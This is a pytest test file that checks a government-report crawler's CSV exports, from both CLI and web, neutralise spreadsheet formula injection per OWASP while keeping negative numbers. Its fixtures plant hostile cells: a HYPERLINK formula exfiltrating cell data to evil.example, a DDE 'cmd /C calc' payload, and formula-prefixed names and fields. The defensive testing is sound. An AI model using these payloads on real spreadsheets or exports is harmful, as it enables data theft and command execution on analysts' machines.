"""CSV formula injection: a bureau page (or anyone who can get a page onto a government site)
plants spreadsheet formulas in the fields nianbao archives -- the title, the publisher, the
document number, the site's own name -- and waits for an analyst to open an export in Excel.

Every CSV nianbao writes (``search --format csv``, ``export --format csv``, ``stats``,
``monitor --format csv``, ``/search.csv`` and ``/stats.csv``) must neutralise a cell that
begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return by prefixing ``'`` (OWASP),
while plain numbers such as ``-5`` stay numbers. Runs on SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import UTC, datetime

import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient

from crawler.cli import cli
from crawler.config import SiteConfig
from crawler.csvsafe import FORMULA_PREFIXES, safe_cell
from crawler.items import ReportItem
from storage import finish_run, finish_site_crawl, open_archive, record_report, start_run, sync_site
from web.app import create_app
from web.settings import WebSettings

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"2023年政府信息公开工作年度报告")'
DDE = "-2+3+cmd|' /C calc'!A0"
SITE = SiteConfig(key="formula-gov", name="+SUM(1,2)示范局", region="@示范省", level="department",
                  family="trs", list_urls=("http://127.0.0.1:9/f/",))
TABLES = {
    "format": "2021",
    "table3": {
        "columns": ["natural_person", "commercial", "research", "social_welfare", "legal_services", "other", "total"],
        # A negative figure must stay a number; a planted row key must not become a formula.
        "rows": {"new_requests": [-5, 2, 0, 0, 0, 0, -3], "=1+1": [1, 0, 0, 0, 0, 0, 1]},
    },
    "checks": {},
}


@dataclass
class FormulaArchive:
    url: str
    document_id: int


@pytest.fixture
def archive(database_url: str, tmp_path, monkeypatch: pytest.MonkeyPatch) -> FormulaArchive:
    monkeypatch.setenv("NIANBAO_DATA_DIR", str(tmp_path / "data"))
    sessions = open_archive(database_url)
    try:
        with sessions() as session, session.begin():
            sync_site(session, SITE)
            run = start_run(session, [SITE.key])
            item = ReportItem(
                site_key=SITE.key, url="http://127.0.0.1:9/f/t1.htm", title=HYPERLINK, publisher=DDE,
                doc_no="\t=1+1", topic="\r=cmd", pub_date="2024-01-20", report_year=2023,
                body_text="@SUM(A1:A9) 本机关收到行政复议申请2件。", attachments=[],
                fetched_at=datetime(2024, 2, 1, tzinfo=UTC),
            )
            fields = ReportItem.__dataclass_fields__
            if "tables" in fields:
                item.tables = TABLES
            record_report(session, run.id, item)
            finish_site_crawl(session, run.id, SITE.key, pages=2, finish_reason="finished", failed=False)
            finish_run(session, run.id)
        with sessions() as session, session.begin():
            from storage.models import Document, Version

            document = session.query(Document).one()
            version = session.get(Version, document.latest_version_id)
            if not version.tables:
                version.tables, version.has_tables = TABLES, True
            document_id = document.id
    finally:
        sessions.kw["bind"].dispose()
    return FormulaArchive(database_url, document_id)


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def assert_no_formula_cells(text: str) -> list[list[str]]:
    """Every cell either is a plain number or does not start like a formula."""
    rows = _rows(text)
    assert len(rows) > 1, text
    for row in rows:
        for cell in row:
            assert safe_cell(cell) == cell, f"live formula cell {cell!r} in {row}"
    return rows


def _cells(rows: list[list[str]]) -> set[str]:
    return {cell for row in rows for cell in row}


def _cli(archive: FormulaArchive, *args: str) -> str:
    result = CliRunner().invoke(cli, ["--db", archive.url, *args])
    assert result.exit_code == 0, result.output
    return result.output


def test_cli_search_csv_neutralises_planted_formulas(archive: FormulaArchive):
    """A crawled title ``=HYPERLINK(...)`` comes back from ``nianbao search --format csv``."""
    cells = _cells(assert_no_formula_cells(_cli(archive, "search", "复议", "--format", "csv")))
    assert "'" + HYPERLINK in cells and "'" + SITE.region in cells


def test_cli_export_csv_neutralises_planted_formulas(archive: FormulaArchive, tmp_path):
    """``nianbao export --format csv`` (to stdout and to a file with a BOM for Excel)."""
    cells = _cells(assert_no_formula_cells(_cli(archive, "export", "--format", "csv")))
    assert {"'" + HYPERLINK, "'" + DDE, "'\t=1+1", "'\r=cmd", "'" + SITE.name} <= cells
    out = tmp_path / "export.csv"
    _cli(archive, "export", "--format", "csv", "--bom", "--output", str(out))
    raw = out.read_text(encoding="utf-8")
    assert raw.startswith("\ufeff")
    assert "'" + HYPERLINK in _cells(assert_no_formula_cells(raw))


def test_cli_stats_csv_neutralises_text_and_keeps_negative_numbers(archive: FormulaArchive, tmp_path):
    """``nianbao stats``: a planted row key is text, a negative figure stays the number -5."""
    rows = assert_no_formula_cells(_cli(archive, "stats"))
    header, body = rows[0], rows[1:]
    by_row = {line[header.index("row")]: dict(zip(header, line, strict=True)) for line in body}
    assert set(by_row) == {"new_requests", "'=1+1"}
    assert by_row["new_requests"]["natural_person"] == "-5" and by_row["new_requests"]["total"] == "-3"
    assert by_row["new_requests"]["site_name"] == "'" + SITE.name
    out = tmp_path / "t3.csv"
    _cli(archive, "stats", "-o", str(out))
    assert "'" + SITE.name in _cells(assert_no_formula_cells(out.read_text(encoding="utf-8")))


def test_cli_monitor_csv_neutralises_the_site_name(archive: FormulaArchive):
    """``nianbao monitor --format csv`` shows the site's (hostile) name in every row."""
    rows = assert_no_formula_cells(_cli(archive, "monitor", "--as-of", "2024-06-01", "--format", "csv"))
    assert "'" + SITE.name in _cells(rows)


def test_web_csv_downloads_neutralise_planted_formulas(archive: FormulaArchive):
    """``/search.csv`` and ``/stats.csv`` from the web app."""
    with TestClient(create_app(WebSettings(database_url=archive.url, row_cap=50))) as client:
        search = client.get("/search.csv?q=复议")
        assert search.status_code == 200
        assert "'" + HYPERLINK in _cells(assert_no_formula_cells(search.text))
        stats = client.get("/stats.csv")
        assert stats.status_code == 200
        rows = assert_no_formula_cells(stats.text)
        assert {"'=1+1", "-5", "-3", "'" + SITE.name} <= _cells(rows)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-", "'-"), ("+", "'+"),
        # plain numbers are data, not formulas
        ("-5", "-5"), ("+5", "+5"), ("-5.25", "-5.25"), ("-1e3", "-1e3"), ("-.5", "-.5"),
        (-5, -5), (2.5, 2.5), (None, None),
        # ordinary text is untouched, including a quote or sign later in the cell
        ("示范局", "示范局"), ("a=1", "a=1"), ("'=1", "'=1"), ("", ""),
        # a number followed by anything else is not a plain number
        ("-5 件", "'-5 件"), ("-5+cmd|' /C calc'!A0", "'-5+cmd|' /C calc'!A0"),
    ],
)
def test_safe_cell_follows_the_owasp_rule_and_leaves_numbers_alone(value, expected):
    """OWASP's rule, unit by unit; numbers such as -5 stay usable in a spreadsheet."""
    assert safe_cell(value) == expected
    if expected != value:
        assert value.startswith(FORMULA_PREFIXES) and expected == "'" + value
